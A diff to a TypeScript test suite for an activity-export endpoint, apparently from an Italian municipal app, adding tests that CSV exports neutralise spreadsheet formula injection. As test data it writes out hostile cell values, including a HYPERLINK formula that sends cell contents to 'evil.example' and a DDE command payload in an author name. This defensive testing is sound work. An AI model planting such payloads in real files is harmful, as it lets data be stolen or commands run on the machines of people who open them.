@@ -65,7 +65,7 @@ describe('activities: export', () => {
       organizations: 'APS Orti, Giardini & Co.',
       latitude: '41.1253',
       longitude: '16.8667',
-      description: '=HYPERLINK("http://example.org")',
+      description: `'=HYPERLINK("http://example.org")`,
       internal_notes: 'Nota riservata allo staff.',
       reviewer: 'Cosimo Coordinatore',
     });
@@ -107,7 +107,9 @@ describe('activities: export', () => {
     expect(first.getCell(col('Partecipanti')).value).toBe(40);
     expect(first.getCell(col('Latitudine')).value).toBe(41.1253);
     expect(first.getCell(col('Codice ISTAT comune')).value).toBe('072006');
+    // a string cell, which Excel never evaluates: written as it is
     expect(first.getCell(col('Descrizione')).value).toBe('=HYPERLINK("http://example.org")');
+    expect(first.getCell(col('Descrizione')).type).toBe(ExcelJS.ValueType.String);
     expect(sheet.getRow(4).getCell(col('Titolo')).value).toBe('Bozza');
   });
 
@@ -173,5 +175,61 @@ describe('activities: export', () => {
     expect(header).not.toContain('Commento della revisione');
     expect(sheet.rowCount).toBe(2);
     expect(sheet.getRow(2).getCell(header.indexOf('Stato') + 1).value).toBe('approved');
+  });
+
+  describe('formula injection', () => {
+    /** Texts a spreadsheet would run, in every kind of text column: the activity's, the author's name, an organization's name. */
+    const HOSTILE = {
+      title: '=HYPERLINK("http://evil.example/?x="&A1,"Apri")',
+      description: '+39 080 5550101',
+      outcomes: '-2+3',
+      followUps: '@SUM(A1:A9)',
+      internalNotes: '=1+1', // a leading tab would be trimmed by the DTO (the unit test covers tab and CR)
+    };
+    let innovatorId: string;
+
+    beforeAll(async () => {
+      const author = await t.factory.user({
+        role: 'innovator',
+        tenant: w.bari,
+        municipalities: ['072006'],
+        fullName: "=cmd|' /C calc'!A0",
+      });
+      innovatorId = author.id;
+      const org = await organizationIn(t, w.bari, '072006', "@Associazione 'Nduja");
+      const signedIn = { ...author, token: '', auth: { Authorization: `Bearer ${await t.factory.token(author)}` } };
+      await activityIn(t, 'approved', signedIn, w.coord, { ...HOSTILE, organizations: [org], date: '2026-09-01' });
+    });
+
+    const exported = async (format: 'csv' | 'csv-it') => {
+      const res = await t.http
+        .get(`/api/activities/export?format=${format}&innovator=${innovatorId}`)
+        .set(w.coord.auth)
+        .buffer(true)
+        .parse(binary)
+        .expect(200);
+      const text = (res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '');
+      const rows: Record<string, string>[] = parse(text, { columns: true, delimiter: format === 'csv' ? ',' : ';' });
+      expect(rows).toHaveLength(1);
+      return rows[0];
+    };
+
+    it.each(['csv', 'csv-it'] as const)(
+      'neutralises every text cell that would run as a formula in %s, and nothing else',
+      async (format) => {
+        const row = await exported(format);
+        const names =
+          format === 'csv'
+            ? { title: 'title', description: 'description', outcomes: 'outcomes', followUps: 'follow_ups', internalNotes: 'internal_notes' }
+            : { title: 'Titolo', description: 'Descrizione', outcomes: 'Esiti', followUps: 'Seguiti', internalNotes: 'Note interne' };
+        for (const [key, column] of Object.entries(names)) expect(row[column]).toBe(`'${HOSTILE[key as keyof typeof HOSTILE]}`);
+        expect(row[format === 'csv' ? 'author' : 'Autore']).toBe(`'=cmd|' /C calc'!A0`);
+        expect(row[format === 'csv' ? 'organizations' : 'Organizzazioni']).toBe(`'@Associazione 'Nduja`);
+        // no cell of the row starts as a formula; numbers and dates are untouched
+        expect(Object.values(row).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+        expect(row[format === 'csv' ? 'date' : 'Data']).toBe(format === 'csv' ? '2026-09-01' : '01/09/2026');
+        expect(row[format === 'csv' ? 'participants_total' : 'Partecipanti']).toBe('25');
+      },
+    );
   });
 });
